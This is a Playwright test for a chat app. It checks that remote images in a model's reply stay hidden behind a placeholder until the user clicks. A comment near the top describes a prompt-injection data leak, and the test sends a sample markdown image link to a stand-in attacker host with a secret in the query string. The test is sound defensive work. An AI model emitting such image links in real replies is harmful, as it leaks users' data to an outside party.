import { expect, test } from '@playwright/test'
import { chatWithGpt5, send } from './support/chat'
import { signUp } from './support/session'

// A reply steered by a prompt injection can hold ![](https://evil.example/x.png?d=SECRET): the
// image is not fetched until the user asks (docs/security.md, "Remote images").

/** A 1×1 PNG. */
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
)

test('images from other sites show a placeholder and load only on click', async ({ page }) => {
  const fetched: string[] = []
  await page.route('https://evil.example/**', (route) => {
    fetched.push(route.request().url())
    return route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL })
  })
  await signUp(page, 'Imogen')
  await chatWithGpt5(page)
  await send(page, 'Summarise this ![the chart](https://evil.example/x.png?d=SECRET)')

  // The fake provider repeats the message, so the image is in the question and in the reply.
  const reply = page.getByRole('article', { name: 'GPT-5 message' }).last()
  await expect(reply).toContainText('You said: Summarise this')
  const load = reply.getByRole('button', { name: 'Load image from evil.example' })
  await expect(load).toBeVisible()
  await expect(reply).toContainText('Image: the chart (evil.example)')
  await expect(page.locator('main img[src^="https://evil.example"]')).toHaveCount(0)
  expect(fetched).toEqual([])

  await load.click()
  await expect(reply.getByRole('img', { name: 'the chart' })).toBeVisible()
  expect(fetched).toEqual(['https://evil.example/x.png?d=SECRET'])
  // The other copy, in the question, is still held back.
  await expect(page.getByRole('button', { name: 'Load image from evil.example' })).toHaveCount(1)
})
